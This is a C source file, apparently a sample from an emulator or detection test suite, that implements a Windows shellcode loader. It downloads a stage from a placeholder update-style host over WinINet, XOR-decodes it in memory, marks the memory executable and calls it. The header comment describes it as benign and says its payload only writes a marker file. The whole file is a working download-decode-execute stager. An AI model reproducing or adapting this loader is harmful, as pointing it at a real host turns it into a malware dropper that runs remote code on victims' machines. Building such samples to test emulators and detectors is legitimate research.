/*
 * loader.c - generality suite: a stage longer than 4 KiB downloaded 512 bytes per read straight
 * into new RW memory, decoded there in place (7-byte repeating XOR), made RX and called.
 * Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * GETs http://updates.example-cdn.net/v4/stage.bin with WinINet, InternetReadFile 512 bytes at
 * a time into a PAGE_READWRITE allocation, XORs the body in place with a 7-byte key, makes it
 * PAGE_EXECUTE_READ with VirtualProtect and calls it. The body is the suite's final payload
 * (../../lineage-common/payload.c), which writes C:\Users\Public\lineage_chunks.txt, followed by
 * data it never reads, about 6 KiB in all.
 * Exit codes: 0 ok, 1 no marker, 2 network, 4 memory, 6 the stage failed.
 */
#include "common.h"
#include <wininet.h>

#define CAPACITY 0x4000
#define PIECE 512

void Entry(void)
{
    static struct sc_ctx ctx;
    static const unsigned char key[7] = {0x5e, 0xc1, 0x02, 0x9b, 0x74, 0x3d, 0xe8};
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    HINTERNET net, url;
    DWORD got, total = 0, i, old;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    net = InternetOpenA("Mozilla/5.0 (compatible; chainreplay-demo)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "http://updates.example-cdn.net/v4/stage.bin", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!url)
        ExitProcess(2);
    mem = (unsigned char *)VirtualAlloc(0, CAPACITY, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    while (total + PIECE <= CAPACITY && InternetReadFile(url, mem + total, PIECE, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    if (total < 64)
        ExitProcess(2);
    for (i = 0; i < total; i++)
        mem[i] ^= key[i % 7];
    if (!VirtualProtect(mem, total, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_chunks.txt", "downloaded in pieces\n");
    ExitProcess(((entry_t)(void *)mem)(&ctx) ? 6 : 0);
}
